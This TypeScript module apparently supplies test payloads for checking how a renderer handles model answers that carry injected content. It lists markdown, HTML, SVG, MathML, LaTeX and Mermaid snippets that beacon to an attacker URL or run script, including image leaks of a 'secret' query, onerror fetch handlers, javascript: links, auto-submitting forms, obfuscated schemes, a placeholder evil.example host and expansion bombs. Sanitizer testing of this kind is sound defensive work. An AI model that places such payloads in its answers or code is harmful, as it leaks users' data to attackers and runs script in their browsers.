/** Something that an answer may hold because a document or a tool told the model to say it. */
export type Payload = {
  name: string;
  /** @param url an address of the attacker's, of this payload alone */
  markdown: (url: string) => string;
};

const SVG = (inner: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>`;
const base64 = (text: string) => btoa(text);
/** `//host/path` of an address. */
const schemeless = (url: string) => url.replace(/^https?:/, "");
const diagram = (...lines: string[]) => ["```mermaid", ...lines, "```"].join("\n");

const entries: [name: string, markdown: (url: string) => string][] = [
  // What markdown itself can say.
  ["image", (url) => `![chart](${url}?q=secret)`],
  ["image-title", (url) => `![chart](<${url}> "a title")`],
  ["image-reference", (url) => `![chart][c]\n\n[c]: ${url} "x"`],
  ["image-shortcut", (url) => `![chart]\n\n[chart]: <${url}>`],
  ["image-in-link", (url) => `[![chart](${url})](https://ok.example)`],
  ["image-in-table", (url) => `| a |\n|---|\n| ![x](${url}) |`],
  ["image-in-footnote", (url) => `note[^1]\n\n[^1]: see ![x](${url})`],
  ["image-in-list-in-quote", (url) => `> - one\n>   - ![x](${url})`],
  ["image-in-heading", (url) => `# ![x](${url})`],
  ["image-schemeless", (url) => `![x](${schemeless(url)})`],
  ["image-backslashes", (url) => `![x](\\\\\\\\${url.replace(/^https?:\/\//, "")})`],
  ["image-entities", (url) => `![x](${url.replace(":", "&#58;").replace("//", "&#x2f;&sol;")})`],
  ["image-percent-scheme", (url) => `![x](http%3A${schemeless(url)})`],
  ["image-zero-width", (url) => `![x](ht\u200btp:${schemeless(url)}) ![x](\ufeff${url})`],
  ["image-newline", (url) => `![x](<ht\ntp:${schemeless(url)}>) ![x](ht&#10;tp:${schemeless(url)})`],
  ["image-ftp", (url) => `![x](ftp:${schemeless(url)})`],
  [
    "image-data-svg",
    (url) => `![x](data:image/svg+xml;base64,${base64(SVG(`<image href="${url}" width="9" height="9"/>`))})`,
  ],
  ["autolink", (url) => `<${url}> and ${url} and www.evil.example`],
  ["link-javascript", (url) => `[x](javascript:fetch('${url}')) [y](java&Tab;script:fetch('${url}'))`],
  ["link-data-html", (url) => `[x](data:text/html;base64,${base64(`<img src="${url}">`)})`],
  ["link-protocol-handler", (url) => `[x](web+evil:${url}) [y](intent:${url}#Intent;end) [z](ms-word:ofe|u|${url})`],
  ["code-block-title", (url) => `\`\`\`html title="<img src=${url}>" <img src=${url}>\n<img src=${url}>\n\`\`\``],
  // HTML, which an answer has no use for.
  ["html-image", (url) => `<img src="${url}" onerror="fetch('${url}')">`],
  ["html-image-unclosed", (url) => `<img src="${url}" alt="`],
  [
    "html-image-srcset",
    (url) => `<img srcset="${url} 1x, ${url}?2 2x"><picture><source srcset="${url}?3"><img></picture>`,
  ],
  ["html-comment", (url) => `<!--><img src="${url}">--> <!-- --!><img src="${url}">`],
  ["html-image-input", (url) => `<input type="image" src="${url}" autofocus onfocus="fetch('${url}')">`],
  ["html-style-import", (url) => `<style>@import "${url}"; body { background: url("${url}?b") }</style>`],
  ["html-style-attribute", (url) => `<p style="background-image: url('${url}')">x</p>`],
  ["html-background", (url) => `<table background="${url}"><tr><td background="${url}">x</table>`],
  ["html-link-stylesheet", (url) => `<link rel="stylesheet" href="${url}">`],
  [
    "html-link-preload",
    (url) => `<link rel="preload" as="image" href="${url}"><link rel="modulepreload" href="${url}?m">`,
  ],
  ["html-link-prefetch", (url) => `<link rel="prefetch" href="${url}">`],
  ["html-link-preconnect", (url) => `<link rel="preconnect" href="${new URL(url).origin}">`],
  ["html-link-dns-prefetch", (url) => `<link rel="dns-prefetch" href="${url}">`],
  ["html-link-icon", (url) => `<link rel="icon" href="${url}"><link rel="manifest" href="${url}?m">`],
  ["html-meta-refresh", (url) => `<meta http-equiv="refresh" content="0;url=${url}">`],
  ["html-base", (url) => `<base href="${url}/"><img src="next.png">`],
  ["html-frame", (url) => `<iframe src="${url}"></iframe>`],
  ["html-frame-srcdoc", (url) => `<iframe srcdoc="<img src='${url}'><script>fetch('${url}')</script>"></iframe>`],
  ["html-video", (url) => `<video poster="${url}" src="${url}?v" autoplay><track src="${url}?t" default></video>`],
  ["html-audio", (url) => `<audio src="${url}" autoplay></audio>`],
  ["html-object", (url) => `<object data="${url}"></object>`],
  ["html-embed", (url) => `<embed src="${url}" type="image/svg+xml">`],
  [
    "html-form",
    (url) =>
      `<form action="${url}" method="post"><input name="x" autofocus><button onfocus="this.form.submit()" autofocus>Go</button></form>`,
  ],
  ["html-script", (url) => `<script src="${url}"></script><script>fetch("${url}?f"); open("${url}?w")</script>`],
  ["html-script-module", (url) => `<script type="module">import "${url}"</script>`],
  [
    "html-speculation-rules",
    (url) =>
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"]}],"prerender":[{"source":"list","urls":["${url}?r"]}]}</script>`,
  ],
  [
    "html-import-map",
    (url) => `<script type="importmap">{"imports":{"a":"${url}"}}</script><script type="module">import "a"</script>`,
  ],
  [
    "html-handlers",
    (url) => `<details open ontoggle="fetch('${url}')">x</details><marquee onstart="fetch('${url}?m')">x</marquee>`,
  ],
  ["html-ping", (url) => `<a href="https://ok.example" ping="${url}" target="_blank">x</a>`],
  [
    "html-custom-element",
    (url) =>
      `<template shadowrootmode="open"><img src="${url}"></template><x-y style="list-style: url(${url})">x</x-y>`,
  ],
  ["svg-image", (url) => SVG(`<image href="${url}" xlink:href="${url}?x" width="9" height="9"/>`)],
  ["svg-use", (url) => SVG(`<use href="${url}#a"/><use xlink:href="data:image/svg+xml,<svg id='a'/>#a"/>`)],
  [
    "svg-filter",
    (url) =>
      SVG(
        `<filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(${url}#g)"/>`,
      ),
  ],
  [
    "svg-script",
    (url) => SVG(`<script href="${url}"></script><animate onbegin="fetch('${url}?a')" attributeName="x" dur="1s"/>`),
  ],
  [
    "mathml-glyph",
    (url) => `<math><mglyph src="${url}"/><maction actiontype="statusline" xlink:href="${url}">x</maction></math>`,
  ],
  // Mathematics and diagrams.
  ["math-includegraphics", (url) => `$$\\includegraphics[width=1em]{${url}}$$`],
  ["math-html", (url) => `$$\\htmlStyle{background: url(${url})}{x} \\htmlData{src=${url}}{y} \\htmlId{main}{z}$$`],
  ["math-href", (url) => `$$\\href{javascript:fetch('${url}')}{x} \\url{${url}}$$`],
  [
    "math-bombs",
    () => `$$\\def\\a#1{#1#1}\\def\\b#1{\\a{\\a{\\a{#1}}}}\\b{\\b{\\b{\\b{\\b{x}}}}}$$\n\n$$\\rule{99999em}{99999em}$$`,
  ],
  ["mermaid-click", (url) => diagram("graph TD", "A-->B", `click A "${url}" _self`, `click B call fetch("${url}")`)],
  ["mermaid-label", (url) => diagram("graph TD", `A["<img src='${url}'><style>@import '${url}'</style>"]-->B`)],
  [
    "mermaid-init",
    (url) =>
      diagram(
        `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "themeCSS": "@import url(${url}); .node { fill: url(${url}) }", "fontFamily": "x; background: url(${url})"}}%%`,
        "graph TD",
        `A["<img src='${url}?i' onerror=fetch('${url}?e')>"]-->B`,
      ),
  ],
  ["mermaid-image", (url) => diagram("flowchart TD", `A@{ img: "${url}", label: "x", w: 60, h: 60 }`, "A-->B")],
  [
    "mermaid-style",
    (url) =>
      diagram("graph TD", "A-->B", `style A fill:url(${url})`, `classDef b background-image:url(${url})`, "class B b"),
  ],
];

/** Ways to make a page load, run, lead or send something, each with its own name. */
export const PAYLOADS: readonly Payload[] = entries.map(([name, markdown]) => ({ name, markdown }));
